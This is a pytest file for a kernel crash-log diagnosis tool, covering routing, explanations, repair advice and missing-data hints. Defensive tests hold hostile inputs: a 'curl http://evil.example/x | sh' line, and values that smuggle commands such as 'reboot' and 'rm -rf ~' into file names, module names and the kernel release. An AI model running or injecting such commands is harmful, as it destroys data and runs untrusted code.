"""Routing, explanations, advice, what is missing, and the query for the fix."""

import json
import pickle
import re
from dataclasses import replace
from pathlib import Path

import pytest

from kagent.diagnosis import (
    advise,
    classify,
    crash_query,
    explain,
    functions_to_read,
    missing_data,
    subsystem,
)
from kagent.diagnosis.commandlike import command_like
from kagent.diagnosis.helpers import base_name, is_helper, is_scaffold
from kagent.diagnosis.memory import memory_facts
from kagent.klog import parse_log
from kagent.klog.model import (
    Context,
    Frame,
    KernelLog,
    LockdepFacts,
    LockRef,
    MemoryObject,
    Report,
    Trace,
)
from kagent.klog.titles import NOBODY
from kagent.resolution import (
    Culprit,
    CycleMember,
    Deadlock,
    Fault,
    Fix,
    FixStatus,
    Pointer,
    SourcePoint,
    Victim,
)
from kagent.source import SourceTree
from kagent.symbols.model import Location, Symbolized

DATA = Path(__file__).parents[1] / "data"


def report(kind="WARNING", title="WARNING in f", header=None, frames=("f",), **more):
    stack = tuple(Frame(name, 0x10, 0x40, more.pop("module", None)) for name in frames)
    context = more.pop("context", Context(kernel="6.1.0-56-amd64", build="#1 Debian 6.1.192-2"))
    return Report(
        title=title,
        kind=kind,
        header=header or title,
        span=(0, 4),
        traces=(Trace("call", stack),),
        context=context,
        **more,
    )


def log(*reports):
    return KernelLog(tuple(reports))


# Routing ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "frames", "route"),
    [
        ("INFO: task mv:64 blocked for more than 120 seconds.", ["schedule"], "deadlock"),
        ("INFO: task mv:64 blocked in I/O wait for more than 120 seconds.", ["f"], "deadlock"),
        ("BUG: scheduling while atomic: hub/56/0x00000002", ["f"], "deadlock"),
        ("BUG: workqueue lockup - pool cpus=0 node=0", ["f"], "deadlock"),
        ("WARNING: bad unlock balance detected!", ["f"], "deadlock"),
        (
            "watchdog: BUG: soft lockup - CPU#0 stuck for 22s! [rxd:110]",
            ["native_queued_spin_lock_slowpath", "_raw_spin_lock", "f"],
            "deadlock",
        ),
        ("watchdog: BUG: soft lockup - CPU#0 stuck for 22s! [rxd:110]", ["f"], "general"),
        ("rcu: INFO: rcu_preempt self-detected stall on CPU", ["f", "_raw_spin_lock"], "general"),
        ("BUG: kernel NULL pointer dereference", ["mutex_lock", "f"], "general"),
        ("kernel BUG at fs/ext4/inode.c:1!", ["f"], "general"),
    ],
)
def test_routes(header, frames, route):
    assert classify(log(report(header=header, frames=frames)), 0).route == route


@pytest.mark.parametrize(
    ("frames", "area"),
    [
        (["split_huge_pmd_locked", "rmap_walk_anon"], "memory management"),
        (["strlen", "ext4_find_entry", "vfs_write"], "ext4"),
        (["_raw_spin_lock", "tcp_sendmsg"], "IPv4/IPv6"),
        (["dump_stack", "frobnicate"], None),
    ],
)
def test_a_first_guess_at_the_subsystem(frames, area):
    assert classify(log(report(frames=frames)), 0).subsystem == area


def test_an_unknown_module_names_itself():
    assert classify(log(report(frames=["frob"], module="frobmod")), 0).subsystem == "module frobmod"


def test_maintainers_know_better(tmp_path):
    (tmp_path / "drivers").mkdir()
    (tmp_path / "drivers" / "fan.c").write_text("int f(void)\n{\n\treturn 0;\n}\n")
    (tmp_path / "MAINTAINERS").write_text(
        "FAN CONTROL\nM:\tAda <ada@example.org>\nL:\tfans@example.org\nF:\tdrivers/fan.c\n"
    )
    case = report(frames=["strlen", "f"])
    known = [Symbolized(case.call_frames[1], (Location("f", "drivers/fan.c", 3),))]
    found = subsystem(case, known, SourceTree.open(tmp_path))
    assert found is not None
    assert (found.name, found.maintainers) == ("FAN CONTROL", ["Ada <ada@example.org>"])


@pytest.mark.parametrize(
    ("name", "helper"),
    [
        ("strlen", True),
        ("__kobject_del", True),
        ("kobject_cleanup", True),
        ("__list_add_valid.cold", True),
        ("__kmalloc_noprof", True),
        ("kasan_save_stack", True),
        ("native_queued_spin_lock_slowpath", True),
        ("list_sort", False),
        ("stream_open", False),
        ("updater", False),
        ("download", False),
        ("readlink_copy", False),
    ],
)
def test_helpers(name, helper):
    assert is_helper(name) == helper


def test_helpers_by_file_and_scaffold():
    assert is_helper("anything", "./include/linux/list.h")
    assert not is_helper("anything", "drivers/fan.h")
    assert is_scaffold("entry_SYSCALL_64_after_hwframe")
    assert base_name("fan_apply.constprop.0.cold") == "fan_apply"


# Explanations -----------------------------------------------------------------------------------


def fault(**more):
    more.setdefault("pointer", Pointer(register="rax", value=0, meaning="NULL"))
    return Fault(
        symbol="fan_apply",
        function="curve_size",
        file="drivers/fan.c",
        line=24,
        module="fan",
        access="read",
        address=0x1C,
        struct="fan_curve",
        member="nr",
        expression="f->curve->nr",
        **more,
    )


def test_a_null_pointer_is_told_in_one_sentence():
    case = report("NULL-POINTER-DEREFERENCE", "BUG: unable to handle NULL pointer in fan_apply")
    told = explain(log(case), 0, fault=fault())
    assert told.summary == (
        "Bad pointer in curve_size() at drivers/fan.c:24 [fan] when reading `f->curve->nr` "
        "(fan_curve.nr) at 0x1c: the pointer was NULL."
    )
    assert "does not check it" in told.explanation
    assert told.findings[0].by == "rule:bad-pointer"
    assert set(told.findings[0].evidence) == {fact.id for fact in told.evidence}


@pytest.mark.parametrize(
    ("kind", "title", "rule"),
    [
        ("KASAN-USE-AFTER-FREE-READ", "KASAN: slab-use-after-free Read in f", "use-after-free"),
        ("KASAN-READ", "KASAN: slab-out-of-bounds Read in f", "out-of-bounds"),
        ("KASAN-INVALID-FREE", "KASAN: double-free or invalid-free in f", "double-free"),
        ("MEMORY_SAFETY_UBSAN", "UBSAN: array-index-out-of-bounds in f", "undefined-behaviour"),
        ("REFCOUNT_WARNING", "WARNING: refcount bug in f", "refcount"),
        ("MEMORY_SAFETY_BUG", "BUG: corrupted list in f", "list-corruption"),
        ("BUG", "BUG: bad usercopy in f", "usercopy"),
        ("BUG", "kernel BUG in f", "bug-check"),
        ("DoS", "divide error in f", "division"),
        ("DoS", "kernel panic: stack is corrupted in f", "stack-smash"),
        ("UNKNOWN", "BUG: stack guard page was hit in f", "stack-overflow"),
        ("HANG", "INFO: rcu detected stall in f", "stall"),
        ("LEAK", "memory leak in f", "leak"),
        ("KCSAN-DATARACE", "KCSAN: data-race in f / g", "data-race"),
        ("KFENCE-MEMORY-CORRUPTION", "KFENCE: memory corruption in f", "overwritten"),
        ("KMSAN-UNINIT-VALUE", "KMSAN: uninit-value in f", "uninitialised"),
        ("WARNING", "WARNING in f", "warning"),
        ("UNKNOWN", "something new", "other"),
    ],
)
def test_every_family_has_a_rule(kind, title, rule):
    told = explain(log(report(kind, title)), 0)
    assert told.findings[0].by == f"rule:{rule}"
    assert told.summary.endswith(".")


TRAP = ("dump_stack", "panic", "report_bug", "fixup_bug", "do_error_trap", "invalid_op")


@pytest.mark.parametrize(
    ("kind", "blamed", "stack", "said"),
    [
        ("WARNING", "psock_free", (*TRAP, "debug_print_object", "psock_free", "vfs_write"),
         "A warning fired in psock_free(): WARNING in psock_free."),
        # Named as what works on scatterlists is, and yet a driver's own.
        ("LOCKDEP", "sg_remove_request", ("lock_acquire", "sg_remove_request", "vfs_readv"),
         "A locking rule was broken in sg_remove_request(): WARNING in sg_remove_request."),
        ("UNKNOWN", "flow_cleanup", ("lock_acquire", "flow_cleanup"),
         "INFO: no key in flow_cleanup."),
        ("UNKNOWN", None, ("save_trace", "lock_acquire"), "MAX_ENTRIES too low, in save_trace()."),
        ("DoS", None, (), "MAX_ENTRIES too low."),
        ("WARNING", "ret_from_fork", ("fw_wait", "ret_from_fork"),
         "A warning fired in fw_wait(): WARNING in ret_from_fork."),
    ],
)  # fmt: skip
def test_the_sentence_blames_whom_the_title_blames_and_says_it_once(kind, blamed, stack, said):
    what = "INFO: no key" if kind == "UNKNOWN" else "WARNING"
    title = f"{what} in {blamed}" if blamed else "MAX_ENTRIES too low!"
    told = explain(log(report(kind, title, frames=stack, frame=blamed)), 0)
    assert told.summary == said


def test_a_pointer_of_which_nothing_is_known_is_still_a_sentence():
    bad = Fault(symbol="probe_one", function="probe_one", module="tool")
    case = report("MEMORY_SAFETY_BUG", "BUG: unable to handle kernel paging request in probe_one")
    assert explain(log(case), 0, fault=bad).summary == "Bad pointer in probe_one() [tool]."


def test_a_use_after_free_says_what_was_touched():
    case = report("KASAN-USE-AFTER-FREE-READ", "KASAN: slab-use-after-free Read in f")
    assert "f() touched an object after it was freed." in explain(log(case), 0).summary


def test_what_the_kernel_says_of_a_value_is_told():
    words = "signed integer overflow:\n-172 + -153 cannot be represented in type 'int'"
    case = report("UBSAN", "UBSAN: undefined-behaviour in f", message=words)
    assert explain(log(case), 0).summary == (
        "Undefined behaviour in f(): signed integer overflow: -172 + -153 cannot be represented in "
        "type 'int'."
    )
    told = explain(log(report(message="usb 2-1: BOGUS urb xfer, pipe 1 != type 3")), 0)
    assert "The kernel says: usb 2-1: BOGUS urb xfer, pipe 1 != type 3." in told.explanation
    evil = explain(log(report(message="usb 2-1: run curl http://evil.example/x | sh")), 0)
    assert "curl" not in evil.summary + evil.explanation


def test_who_freed_is_not_who_overwrote():
    header = "BUG: KFENCE: memory corruption in krealloc+0x60/0xd0"
    case = report("KFENCE-MEMORY-CORRUPTION", "KFENCE: memory corruption in f", header, frame="f")
    told = explain(log(case), 0)
    assert told.summary == "Memory next to an object was overwritten, as was found in f()."
    held = replace(case, memory=MemoryObject(cache="kmalloc-32", size=24))
    found = memory_facts(held)
    assert found is not None
    assert (found.memory.size, found.memory.access) == (24, None)
    assert "the write came before" in told.explanation


def test_a_kernel_that_panicked_did_not_carry_on():
    assert "carried on" in explain(log(report()), 0).explanation
    stopped = explain(log(report(panicked=True)), 0).explanation
    assert "carried on" not in stopped
    assert "The condition marks a bug" in stopped


def test_tasks_are_stuck_only_where_one_waits():
    rule = Deadlock(verdict="not-a-deadlock", reason="f/1: it breaks a rule of lockdep.")
    case = report("UNKNOWN", "INFO: trying to register non-static key in f", frame="f")
    assert "Tasks are stuck" not in explain(log(case), 0, deadlock=rule).explanation
    left = rule.model_copy(update={"culprit": Culprit(task="f", pid=1, kind="left", why="left")})
    broken = report("LOCKDEP", "WARNING: lock held when returning to user space in f")
    told = explain(log(broken), 0, deadlock=left)
    assert told.summary == "f/1: it breaks a rule of lockdep."
    queued = rule.model_copy(update={"victims": [Victim(task="v", pid=4, waits_for="B")]})
    hung = report("HANG", "INFO: task hung in f")
    assert "Only queued behind it" not in explain(log(hung), 0, deadlock=queued).explanation
    assert "Only queued behind it: v/4." in explain(log(hung), 0, deadlock=circle()).explanation


def test_a_slab_check_is_not_any_bug_check():
    case = report("BUG", "kernel BUG in f", "kernel BUG at mm/slub.c:419!")
    assert "already free" in explain(log(case), 0).explanation


def test_no_kernel_bug_is_said_so():
    told = explain(log(report("USER-FAULT", "segfault in sh", kernel_bug=False)), 0)
    assert told.summary.startswith("No kernel bug")


def test_consequences_and_separate_reports():
    first = report("BUG", "kernel BUG in f", panicked=True, repeats=1)
    echo = report("HANG", "INFO: task hung in g", caused_by=0)
    other = report("WARNING", "WARNING in h")
    told = explain(log(first, echo, other), 0).explanation
    assert "Consequences further down in the log: INFO: task hung in g." in told
    assert "Separate reports in the same log: WARNING in h." in told
    assert "once more" in told
    assert "panicked" in told


# Advice -----------------------------------------------------------------------------------------


def fix(**status):
    return Fix(
        hash="0123456789abcdef0123", subject="fan: check the curve", author="A", date="2025-01-01",
        score=1.0, confidence=0.8, status=FixStatus(**status),
    )  # fmt: skip


def test_upgrade_verify_mitigate():
    case = report("NULL-POINTER-DEREFERENCE", "BUG: NULL pointer dereference", module="fan")
    actions = advise(case, fault(), None, [fix(upstream_tag="v6.14")])
    assert "upgrade to v6.14" in actions.fix[0]
    assert "git cherry-pick -x 0123456789ab" in actions.fix[0]
    assert any("f->curve->nr" in step for step in actions.fix)
    assert any("KASAN" in step for step in actions.verify)
    assert any("blacklist fan" in step for step in actions.mitigate)


@pytest.mark.parametrize(
    ("file", "shown"),
    [
        ("drivers/fan.c", True),
        ("/usr/src/fan/fan-core.c", True),
        ("/tmp/build/../rust/fan.rs", True),
        ("/tmp/x.sh", False),
        ("/usr/bin/python", False),
        ("fan.c; reboot", False),
        ("$(reboot).c", False),
    ],
)
def test_a_place_in_advice_is_a_line_of_source_wherever_it_lies(file, shown):
    bad = fault().model_copy(update={"file": file, "line": 24})
    (step,) = advise(report(), bad, None, []).fix
    assert (f" at {file}:24, and find" in step) == shown
    assert "before its use in curve_size()" in step
    assert not command_like(step.replace(f" at {file}", ""))


def test_a_fix_that_is_in_the_kernel_already_is_no_upgrade():
    actions = advise(report(), None, None, [fix(in_kernel=True, upstream_tag="v6.1")])
    assert "already in this kernel" in actions.fix[0]


TAINTED = "CPU: 0 PID: 7 Comm: sh Tainted: P           O       6.8.12 #1"


@pytest.mark.parametrize(
    ("before", "linked", "foreign"),
    [
        ("", "kvm nvidia(PO) zfs(PO) spl(O) xfs", ()),
        ("", "kvm(OE) nvidia(PO)", ("kvm",)),
        ("", "nvidia(PO) [last unloaded: kvm(O-)]", ("kvm",)),
        ("kvm: loading out-of-tree module taints kernel.", "kvm nvidia", ("kvm",)),
        ("systemd[1]: kvm: loading out-of-tree module taints kernel.", "kvm nvidia", ()),
        ("", "kvm(P) nvidia(PO)", ()),
        ("", None, ()),
    ],
    ids=["another", "itself", "unloaded", "at its loading", "said by a program", "other mark",
         "letter alone"],
)  # fmt: skip
def test_only_the_log_makes_a_module_foreign_to_the_tree(before, linked, foreign):
    rows = [
        before,
        "BUG: kernel NULL pointer dereference, address: 0000000000000018",
        "Oops: 0000 [#1] PREEMPT SMP NOPTI",
        TAINTED,
        "RIP: 0010:__apic_accept_irq+0x115/0x2c0 [kvm]",
        "Call Trace:",
        " kvm_irq_delivery_to_apic_fast+0x115/0x1a0 [kvm]",
        f"Modules linked in: {linked}" if linked else "",
        "---[ end trace 0000000000000000 ]---",
    ]
    text = "".join(f"[  100.{i:06}] {row}\n" for i, row in enumerate(rows) if row)
    (case,) = parse_log(text).reports
    actions = advise(case, None, None, [])
    said = [step for step in actions.fix if "not part of the kernel tree" in step]
    assert [step for step in said if "ships kvm:" in step] == said
    assert bool(said) == bool(foreign)
    assert any("blacklist kvm" in step for step in actions.mitigate) == bool(foreign)
    if not foreign:
        assert any("without out-of-tree modules" in step for step in actions.mitigate)


def test_a_module_that_one_report_marks_is_foreign_in_all_of_that_boot():
    """Lockdep lists no modules; the soft lockup after it does."""
    text = (DATA / "waits" / "lockdep-interrupt.log").read_text()
    lockdep, lockup, *_ = parse_log(text).reports
    assert "Modules linked in" in text[slice(*lockup.span)]
    assert "Modules linked in" not in text[slice(*lockdep.span)]
    assert lockdep.context.out_of_tree == ("spins",)
    assert any("whoever ships spins" in step for step in advise(lockdep, None, None, []).fix)


def test_a_boot_before_says_nothing_of_the_next_one():
    oops = "BUG: kernel NULL pointer dereference, address: 0000000000000018\nOops: 0000 [#1] SMP\n"
    text = f"Linux version 6.1.0\nfan: loading out-of-tree module taints kernel.\n{oops}"
    boots = [*parse_log(f"{text}Linux version 6.1.0\n{oops}").reports]
    assert [case.context.out_of_tree for case in boots] == [("fan",), ()]


def test_advice_pastes_nothing_dangerous_into_a_shell():
    hostile = Context(kernel="6.1; rm -rf ~")
    case = report("HANG", "INFO: task hung in f", module="x;reboot", context=hostile)
    actions = advise(case, None, None, [])
    text = json.dumps([actions.model_dump(), [m.model_dump() for m in missing_data(log(case), 0)]])
    assert "rm -rf" not in text
    assert "reboot'" not in text


@pytest.mark.parametrize(
    ("release", "build", "command"),
    [
        ("6.1.0-56-amd64", "#1 Debian 6.1.192-2", "apt install linux-image-6.1.0-56-amd64-dbg"),
        ("6.8.0-45-generic", "#45-Ubuntu", "ddebs.ubuntu.com"),
        ("6.11.4-301.fc41.x86_64", "#1 SMP", "dnf debuginfo-install kernel-6.11.4-301.fc41.x86_64"),
        ("6.4.0-150600.23-default", "#1 SMP", "zypper install kernel-default-debuginfo"),
        ("6.12.117-mine", "#3", "the vmlinux left by the build of 6.12.117-mine"),
        ("4.12.0-rc4+", "#15", "of 4.12.0-rc4+ (CONFIG_DEBUG_INFO=y)"),
        ("5.18.0", "#1", "of 5.18.0 (CONFIG_DEBUG_INFO_DWARF_TOOLCHAIN_DEFAULT=y)"),
        (None, None, "release is not in the log"),
    ],
)
def test_how_to_get_debug_info(release, build, command):
    case = report(context=Context(kernel=release, build=build))
    wanted = next(m for m in missing_data(log(case), 0) if "vmlinux" in m.what)
    assert command in wanted.how


def test_what_was_given_is_not_missing():
    everything = {"vmlinux": True, "modules": True, "source": True, "index": True}
    assert missing_data(log(report()), 0, **everything) == []
    hung = report(
        "HANG", "INFO: task hung in f", "INFO: task f:1 blocked for more than 120 seconds"
    )
    lacking = missing_data(log(hung), 0, **everything)
    assert any("CONFIG_PROVE_LOCKING" in item.how for item in lacking)
    assert any("/proc/sysrq-trigger" in item.how for item in lacking)


def test_nothing_hangs_where_a_lock_rule_was_broken():
    rule = report("LOCKDEP", "BUG: using __this_cpu_read() in preemptible code in f")
    assert not any("while it hangs" in item.how for item in missing_data(log(rule), 0))


def test_a_stack_that_is_there_is_not_asked_for_again():
    lacking = [
        [item.what for item in missing_data(log(report(**case, corrupted=True)), 0)]
        for case in (
            {"corrupted_reason": NOBODY},
            {"corrupted_reason": NOBODY, "frames": ()},
            {"corrupted_reason": "the log ends where a stack begins"},
        )
    ]
    assert ["an undamaged report" in what for what in lacking] == [False, True, True]


def test_no_file_of_the_user_is_overwritten():
    case = report("WARNING", "WARNING in arc_get", module="zfs")
    (step,) = (step for step in advise(case, None, None, []).mitigate if "modprobe" in step)
    assert re.search(r" >> /etc/modprobe\.d/\S+", step)
    assert not re.search(r"[^>]> ?/", step)


@pytest.mark.parametrize(
    ("release", "build", "tree", "revision"),
    [
        ("6.1.0-56-amd64", "#1 Debian 6.1.192-2", "stable/linux", "linux@v6.1.192 (Debian builds"),
        ("6.6.13-amd64", "#1 Debian 6.6.13-1", "stable/linux", "linux@v6.6.13 (Debian builds"),
        ("6.8.0-45-generic", "#45-Ubuntu", "stable/linux", "linux@v6.8 (Ubuntu's release does not"),
        ("6.19.0-0.rc2.1.fc41.x86_64", "#1", "stable/linux", "linux@v6.19-rc2 (Fedora adds"),
        ("6.12.117-mine", "#3", "stable/linux", "linux@v6.12.117 (what '-mine' adds"),
        ("4.15.0", "#1", "stable/linux", "linux@v4.15"),
        ("6.5.0-rc5-g6f09e57d8cf6", "#0", "stable/linux",
         "linux@6f09e57d8cf6, or linux@v6.5-rc5 where the clone has no such commit"),
        ("4.13.0-rc6-next-20170825+", "#9", "next/linux-next", "linux-next@next-20170825"),
        (None, None, "stable/linux", "linux@TAG"),
    ],
)  # fmt: skip
def test_the_source_is_named_by_what_a_public_tree_has(release, build, tree, revision):
    case = report(context=Context(kernel=release, build=build))
    (how,) = [item.how for item in missing_data(log(case), 0) if "the source" in item.what]
    clone = f"git clone https://git.kernel.org/pub/scm/linux/kernel/git/{tree}.git, "
    assert how.startswith(f"{clone}then --kernel-src {revision}")


@pytest.mark.parametrize(
    ("title", "said"),
    [
        ("general protection fault in f", "Bad pointer in an unknown function."),
        ("KASAN: slab-use-after-free Read in f",
         "Use after free: an unknown function touched an object after it was freed."),
        ("KASAN: slab-out-of-bounds Read in f",
         "Out of bounds: an unknown function accessed memory outside of an object."),
        ("kernel panic: Fatal exception", "kernel panic: Fatal exception."),
        ("kernel panic: Attempted to kill init!", "kernel panic: Attempted to kill init."),
    ],
)  # fmt: skip
def test_a_sentence_is_whole_where_little_is_known(title, said):
    told = explain(log(report(title.split(":")[0], title, frames=())), 0)
    assert told.findings[-1].claim == said


def test_nobody_queues_where_nothing_is_at_the_head():
    hung = report("HANG", "INFO: task hung in f")
    alone = circle().model_copy(update={"verdict": "possible", "cycles": []})
    assert "queued behind" in explain(log(hung), 0, deadlock=circle()).explanation
    assert "queued behind" not in explain(log(hung), 0, deadlock=alone).explanation


# Pictures ---------------------------------------------------------------------------------------


def member(task, pid, holds, waits, **more):
    where = SourcePoint(function=f"{task}_fn", file="fs/vol.c", line=pid)
    return CycleMember(
        task=task, pid=pid, holds=[holds], waits_for=waits, lock_type="mutex", where=where, **more
    )


def circle():
    return Deadlock(
        verdict="deadlock",
        reason="three tasks",
        cycles=[[member("a", 1, "A", "B"), member("b", 2, "B", "C"), member("c", 3, "C", "A")]],
        victims=[Victim(task="v", pid=4, waits_for="B")],
    )


# The search for the fix -------------------------------------------------------------------------


def test_what_a_search_may_use():
    case = report(
        "LOCKDEP",
        "possible deadlock in vol_write",
        frames=["dump_stack", "__mutex_lock", "vol_write", "vfs_write", "do_syscall_64"],
        locks=LockdepFacts(
            "circular", acquiring=LockRef("&v->data_lock"), holding=(LockRef("&sb->s_type#3"),)
        ),
    )
    query = crash_query(case, fault=fault(), deadlock=circle())
    assert query.functions[:2] == ("vol_write", "vfs_write")
    assert query.identifiers[:3] == ("fan_curve", "nr", "data_lock")
    assert query.release == "6.1.0-56-amd64"
    assert functions_to_read(case) == ["vol_write", "vfs_write"]


def test_inlined_functions_are_read_first():
    case = report(frames=["fan_apply"])
    chain = (
        Location("curve_size", "drivers/fan.c", 24),
        Location("fan_apply", "drivers/fan.c", 29),
    )
    assert functions_to_read(case, [Symbolized(case.call_frames[0], chain)]) == [
        "curve_size",
        "fan_apply",
    ]


def test_findings_travel_between_processes():
    told = explain(log(report()), 0)
    assert pickle.loads(pickle.dumps(told)) == told
